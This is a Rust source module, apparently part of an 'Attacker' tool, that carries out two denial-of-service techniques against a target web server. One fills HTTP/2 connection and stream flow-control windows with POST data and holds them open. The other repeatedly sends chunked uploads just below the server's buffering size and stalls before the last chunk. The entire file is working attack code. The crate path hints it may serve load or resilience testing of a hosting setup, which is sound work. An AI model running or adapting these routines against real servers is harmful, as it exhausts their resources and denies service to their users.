//! Uploads that nobody takes, and those that are collected before anybody may.

use std::time::Duration;

use tokio::io::{self, AsyncReadExt, AsyncWriteExt, sink, split};
use tokio::net::TcpStream;
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;

use super::Attacker;
use crate::hosting::frames::{
    DATA, Frame, SETTINGS, WINDOW_UPDATE, block, frame, headers, preface, read,
};

impl Attacker {
    /// Sends bodies until the windows of the connection and of its streams are full.
    pub(super) async fn full_windows(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        self.write(&mut to, &preface(65_535), 1).await?;
        let mut windows = Windows::default();
        while windows.each == 0 || windows.all <= FIRST_WINDOW {
            windows.note(&read(&mut from).await?);
        }
        let fields = block(&[
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", &self.target.host),
            (":path", &self.target.path),
        ]);
        let piece = vec![0; PIECE];
        let writing = async {
            for stream in (1..2 * super::frames::STREAMS).step_by(2) {
                if windows.all < PIECE {
                    break;
                }
                self.write(&mut to, &headers(stream, 0, &fields), 1).await?;
                for _ in 0..windows.each.min(windows.all) / PIECE {
                    let data = frame(DATA, 0, stream, &piece);
                    self.write(&mut to, &data, 1).await?;
                    windows.all -= PIECE;
                }
            }
            std::future::pending().await
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }
}

impl Attacker {
    /// Sends chunked bodies just under the size up to which they are collected for scripts,
    /// and keeps each from its end for a while.
    pub(super) async fn late_ends(&self, stream: &mut TlsStream<TcpStream>) -> io::Result<()> {
        let (path, host) = (&self.target.path, &self.target.host);
        let head =
            format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n");
        let size = format!("{PIECE:x}\r\n");
        let chunk = [size.as_bytes(), &[b'x'; PIECE], b"\r\n"].concat();
        let mut answer = vec![0; PIECE];
        loop {
            self.write(stream, head.as_bytes(), 1).await?;
            for _ in 0..COLLECTED / PIECE - 1 {
                stream.write_all(&chunk).await?;
            }
            stream.flush().await?;
            sleep(BEFORE_END).await;
            self.write(stream, b"0\r\n\r\n", 1).await?;
            if stream.read(&mut answer).await? == 0 {
                return Ok(());
            }
        }
    }
}

/// Bytes that the server lets a client send.
#[derive(Default)]
struct Windows {
    /// On each stream.
    each: usize,
    /// On all streams.
    all: usize,
}

impl Windows {
    /// Notes windows that the server announces before the first request (RFC 9113,
    /// section 6.9).
    fn note(&mut self, seen: &Frame) {
        let value = |bytes: &[u8]| {
            bytes
                .iter()
                .fold(0, |sum, byte| sum << 8 | usize::from(*byte))
        };
        match seen.kind {
            SETTINGS => {
                let mut settings = seen.payload.chunks(6);
                let window = settings.rfind(|setting| setting[..2] == [0, 4]);
                self.each = window.map_or(self.each, |setting| value(&setting[2..]));
            }
            WINDOW_UPDATE if seen.stream == 0 => {
                self.all = self.all.max(FIRST_WINDOW) + value(&seen.payload);
            }
            _ => {}
        }
    }
}

/// Window of a connection before the first update.
const FIRST_WINDOW: usize = 65_535;
/// Bytes of a frame.
const PIECE: usize = 16 << 10;
/// Bytes of a body without a length that is collected for a script.
const COLLECTED: usize = 1 << 20;
/// Pause before a body's last chunk.
const BEFORE_END: Duration = Duration::from_secs(1);
